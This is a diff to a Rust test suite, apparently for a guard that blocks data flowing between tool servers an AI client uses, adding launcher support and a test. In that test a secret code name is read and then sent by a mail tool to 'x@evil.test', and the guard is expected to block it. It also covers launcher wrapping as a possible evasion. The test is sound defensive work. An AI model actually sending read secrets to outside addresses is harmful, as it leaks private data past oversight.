@@ -152,14 +152,17 @@ fn fake_ide_bin(dir: &Path) -> PathBuf {
 /// `later` start only when [`Ide::join`] asks for them (the shell waits for a
 /// trigger file, then `exec`s the wrap, so it stays the shell's child).
 fn ide(sb: &Sandbox, name: &str, servers: &[(&str, Vec<String>, &[&str])]) -> Ide {
-    ide_with_later(sb, name, servers, &[])
+    ide_with(sb, name, servers, &[], &[])
 }
 
-fn ide_with_later(
+/// [`ide`], with wraps started later (see [`Ide::join`]) and wraps started
+/// through a launcher (`id`, shell words put before the wrap's argv).
+fn ide_with(
     sb: &Sandbox,
     name: &str,
     servers: &[(&str, Vec<String>, &[&str])],
     later: &[&str],
+    launchers: &[(&str, &str)],
 ) -> Ide {
     let dir = sb.path().join(name);
     std::fs::create_dir_all(&dir).unwrap();
@@ -177,8 +180,12 @@ fn ide_with_later(
             .iter()
             .map(|a| quote(a))
             .collect();
+        let launcher = launchers
+            .iter()
+            .find(|(l, _)| l == id)
+            .map_or("", |(_, words)| words);
         let run = format!(
-            "{} <{} >{}",
+            "{launcher} {} <{} >{}",
             wrap.join(" "),
             quote(&dir.join(format!("{id}.in")).display().to_string()),
             quote(&dir.join(format!("{id}.out")).display().to_string())
@@ -374,7 +381,7 @@ fn call_window_rows(sb: &Sandbox) -> String {
 fn a_read_made_alone_is_handed_over_when_another_server_joins() {
     let peers = Peers::locate();
     let sb = Sandbox::new();
-    let mut ide = ide_with_later(
+    let mut ide = ide_with(
         &sb,
         "ide",
         &[
@@ -382,6 +389,7 @@ fn a_read_made_alone_is_handed_over_when_another_server_joins() {
             ("mailer", peers.py_server("send_server.py", &[]), &[]),
         ],
         &["mailer"],
+        &[],
     );
     ide.wire("memory").start();
     assert!(!ide.wire("memory").list().is_empty());
@@ -408,6 +416,50 @@ fn a_read_made_alone_is_handed_over_when_another_server_joins() {
         !db.windows(14).any(|w| w == b"BLUEHERON-7731"),
         "the handed-over marks hold no clear text"
     );
+}
+
+/// The session is the nearest ancestor that is not a launcher (DESIGN §2):
+/// wraps a client starts through `sh -c`, `timeout` or `nohup` (each stays a
+/// process between the client and the wrap) are still one session.
+#[test]
+fn wraps_started_through_launchers_share_the_clients_session() {
+    let peers = Peers::locate();
+    let sb = Sandbox::new();
+    let mut ide = ide_with(
+        &sb,
+        "ide",
+        &[
+            ("memory", memory(&peers), &["MEMORY_FILE_PATH"]),
+            ("mailer", peers.py_server("send_server.py", &[]), &[]),
+            (
+                "notes",
+                peers.py_server("send_server.py", &["read_note"]),
+                &[],
+            ),
+        ],
+        &[],
+        &[
+            // `; true` keeps sh from exec-ing the wrap in its place.
+            ("memory", "sh -c '\"$0\" \"$@\"; true'"),
+            ("mailer", "timeout 600"),
+            ("notes", "nohup"),
+        ],
+    );
+    for id in ["memory", "mailer", "notes"] {
+        ide.wire(id).start();
+        assert!(!ide.wire(id).list().is_empty());
+    }
+    seed_and_read(ide.wire("memory"));
+    let leak = ide.wire("mailer").call(
+        "send_message",
+        json!({"to": "x@evil.test", "body": "fyi: code name BLUEHERON-7731"}),
+    );
+    let why = blocked_by(&leak).expect("the linked send is blocked across launchers");
+    assert!(why.starts_with("cross_server.read_then_send"), "{why}");
+    let note = ide
+        .wire("notes")
+        .call("read_note", json!({"text": "code name BLUEHERON-7731"}));
+    assert_eq!(blocked_by(&note), None, "a read is not a flow");
 }
 
 #[test]
